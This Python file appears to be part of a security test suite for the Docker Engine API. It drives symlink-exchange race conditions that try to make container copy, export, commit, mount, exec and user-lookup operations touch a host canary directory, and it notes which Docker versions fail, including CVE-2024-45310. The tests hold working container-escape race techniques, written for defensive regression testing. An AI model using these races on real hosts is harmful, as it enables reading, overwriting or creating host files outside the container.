"""Races: a program in a container exchanges a directory and a link to the host all the time."""

from __future__ import annotations

from typing import Any

from archives import Member, directory, link
from attack_target import Target, tries
from attacks import ISOLATED, attack

TOP = "/race"
STATUS = "Docker 20.10 loses it: the size of a file of the host is given away; 28.5 withstands it"
CREATED = "Docker 20.10 loses it, and creates it on the host (CVE-2024-45310); 28.5 withstands it"


def members(target: Target, prefix: str, to: str = "directory") -> tuple[Member, ...]:
    """Return a directory `place` with files, and a link `link` to a directory of the host."""
    files = [(f"{prefix}place/{name}", b"inside\n") for name in ("secret", "inner", "passwd", "group")]
    return (directory(f"{prefix}place"), *files, link(f"{prefix}link", f"{target.canary}/{to}"))


def exchanging(target: Target, to: str = "directory", **config: Any) -> str:
    """Start a container in which /race/place is now a directory, now a link to the host."""
    files = (directory("race"), *members(target, "race/", to))
    return target.program_container("exchange", f"{TOP}/place", f"{TOP}/link", files=files, **config)


def exchanging_in_volume(target: Target, to: str = "directory") -> str:
    """Do the same in a new volume, and return the volume's name."""
    volume = target.volume()
    exchanging(target, to, HostConfig={"Binds": [f"{volume}:{TOP}"]})
    return volume


def repeat(target: Target, method: str, path: str, count: int = 200, body: bytes = b"") -> set[int]:
    """Send the same request again and again until the host is reached. Return the statuses."""
    statuses = set()
    for number in tries(count):
        statuses.add(target.send(method, path, body).status)
        if number % 10 == 9 and target.has_reached():
            break
    return statuses


@attack(ISOLATED, exception=STATUS, since=28)
def test_race_of_reading_a_file(target: Target) -> None:
    """A file below the exchanged directory is copied out."""
    container = exchanging(target)
    assert 200 in repeat(target, "GET", f"/containers/{container}/archive?path={TOP}/place/secret")


@attack(ISOLATED)
def test_race_of_reading_a_directory(target: Target) -> None:
    """The exchanged directory is copied out, and the one above it."""
    container = exchanging(target)
    for path in (f"{TOP}/place/.", f"{TOP}/place", TOP):
        repeat(target, "GET", f"/containers/{container}/archive?path={path}", 70)


@attack(ISOLATED, exception=STATUS, since=28)
def test_race_of_a_status(target: Target) -> None:
    """The status of a file below the exchanged directory is asked for."""
    container = exchanging(target)
    assert 200 in repeat(target, "HEAD", f"/containers/{container}/archive?path={TOP}/place/secret")


@attack(ISOLATED)
def test_race_of_writing(target: Target) -> None:
    """Files are copied to the exchanged directory."""
    container = exchanging(target)
    for _ in tries(200):
        target.put(container, f"{TOP}/place", ("new", b"x"), ("inner", b"overwritten"))
        if target.has_reached():
            break


@attack(ISOLATED)
def test_race_of_writing_below(target: Target) -> None:
    """Files are copied to the directory above, with names that go through the exchanged one."""
    container = exchanging(target)
    for _ in tries(200):
        target.put(container, TOP, ("place/new", b"x"), ("place/inner", b"overwritten"), directory("place/made"))
        if target.has_reached():
            break


@attack(ISOLATED)
def test_race_of_writing_links(target: Target) -> None:
    """Hard links to files below the exchanged directory are copied in, and then read."""
    from tarfile import LNKTYPE

    container = exchanging(target)
    for _ in tries(120):
        target.put(container, TOP, link("hard", f"{TOP}/place/secret", LNKTYPE), link("hard", "place/secret", LNKTYPE))
        target.get(container, f"{TOP}/hard")
        if target.has_reached():
            break


@attack(ISOLATED)
def test_race_of_an_export(target: Target) -> None:
    """The container is exported."""
    container = exchanging(target)
    assert 200 in repeat(target, "GET", f"/containers/{container}/export", 60)


@attack(ISOLATED, exception="Docker 20.10 and 28.5 lose it: the names of files of the host are listed")
def test_race_of_the_changes(target: Target) -> None:
    """The container's changes are listed."""
    container = exchanging(target)
    assert 200 in repeat(target, "GET", f"/containers/{container}/changes", 120)


@attack(ISOLATED, exception="Docker 20.10 and 28.5 lose it: files of the host are counted")
def test_race_of_the_size(target: Target) -> None:
    """The container's size is asked for, which would show a large file of the host."""
    container = exchanging(target)
    for _ in tries(120):
        if target.send("GET", f"/containers/{container}/json?size=1").document["SizeRw"] > 8 << 20:
            target.reached("the size includes files of the host")
            break


@attack(ISOLATED, exception="Docker 28.5 loses it: files of the host are in the image")
def test_race_of_a_commit(target: Target) -> None:
    """The container is committed without a pause, and the image's files are read."""
    container = exchanging(target)
    for _ in tries(12):
        name = target.name_image()
        target.ask("POST", f"/commit?container={container}&repo={name}&pause=0", {})
        if copy := target.create("true", image=name):
            target.send("GET", f"/containers/{copy}/export")
        if target.has_reached():
            break


@attack(ISOLATED, exception=STATUS, since=28)
def test_race_of_a_volume(target: Target) -> None:
    """Another container with the same volume is copied from and to while the directory is exchanged in the volume."""
    volume = exchanging_in_volume(target)
    container = target.create("true", HostConfig={"Binds": [f"{volume}:/data"]})
    for _ in tries(100):
        target.get(container, "/data/place/secret")
        target.put(container, "/data/place", ("inner", b"overwritten"))
        if target.has_reached():
            break


@attack(ISOLATED, exception=CREATED, since=28)
def test_race_of_a_mount_below_a_volume(target: Target) -> None:
    """A second volume is mounted below the exchanged directory of the first one."""
    volume, other = exchanging_in_volume(target, "empty"), target.volume()
    for _ in tries(25, 5):
        container = target.create("true", HostConfig={"Binds": [f"{volume}:/data", f"{other}:/data/place/new/deeper"]})
        target.start(container)
        target.ask("DELETE", f"/containers/{container}?force=1")
        if target.has_reached():
            break


@attack(ISOLATED, exception=CREATED, since=28)
def test_race_of_a_file_mounted_below_a_volume(target: Target) -> None:
    """A file is bound to a new name below the exchanged directory, so the engine creates it."""
    volume = exchanging_in_volume(target, "empty")
    for _ in tries(25, 5):
        binds = [f"{volume}:/data", f"{target.canary}/program:/data/place/new:ro"]
        container = target.create("true", HostConfig={"Binds": binds})
        target.start(container)
        target.ask("DELETE", f"/containers/{container}?force=1")
        if target.has_reached():
            break


@attack(ISOLATED)
def test_race_of_a_working_directory(target: Target) -> None:
    """The working directory of another container is below the exchanged directory, so the engine creates it."""
    volume = exchanging_in_volume(target, "empty")
    for _ in tries(25, 5):
        host = {"Binds": [f"{volume}:/data"]}
        container = target.create("true", WorkingDir="/data/place/new/deeper", HostConfig=host)
        target.start(container)
        target.ask("DELETE", f"/containers/{container}?force=1")
        if target.has_reached():
            break


@attack(ISOLATED)
def test_race_of_the_working_directory_of_an_exec(target: Target) -> None:
    """Commands run in the exchanged directory, and read a file there."""
    container = exchanging(target)
    for _ in tries(40):
        target.execute(container, "cat", "secret", "../secret", "../../secret", WorkingDir=f"{TOP}/place")
        if target.has_reached():
            break


@attack(ISOLATED)
def test_race_of_the_users(target: Target) -> None:
    """Commands run as a user of the host's passwd while /etc is exchanged for a link to it."""
    links = (link("other", f"{target.canary}/etc"),)
    container = target.program_container("exchange", "/etc", "/other", files=links)
    for _ in tries(40):
        if "4242" in target.execute(container, "id", "-u", User="spy"):
            target.reached("the user was found in the host's file")
            break


@attack(ISOLATED)
def test_race_of_files_that_the_engine_writes(target: Target) -> None:
    """Networks are connected and the container is renamed, which changes its hosts file, while /etc is exchanged."""
    links = (link("other", f"{target.canary}/etc"),)
    container = target.program_container("exchange", "/etc", "/other", files=links)
    network = target.ask("POST", "/networks/create", {"Name": target.label}).document["Id"]
    try:
        for number in tries(30):
            target.ask("POST", f"/networks/{network}/connect", {"Container": container})
            target.ask("POST", f"/containers/{container}/rename?name={target.label}-{number}")
            target.ask("POST", f"/networks/{network}/disconnect", {"Container": container, "Force": True})
            if target.has_reached():
                break
    finally:
        target.ask("DELETE", f"/containers/{container}?force=1")
        target.ask("DELETE", f"/networks/{network}")


@attack(ISOLATED)
def test_race_of_a_removal(target: Target) -> None:
    """The container, and a volume after it, are removed while the directory is exchanged."""
    for _ in tries(12, 5):
        target.ask("DELETE", f"/containers/{exchanging(target)}?force=1")
        volume = target.volume()
        container = exchanging(target, HostConfig={"Binds": [f"{volume}:{TOP}"]})
        target.ask("DELETE", f"/volumes/{volume}?force=1")
        target.ask("DELETE", f"/containers/{container}?force=1&v=1")
        target.ask("DELETE", f"/volumes/{volume}?force=1")
        if target.has_reached():
            break
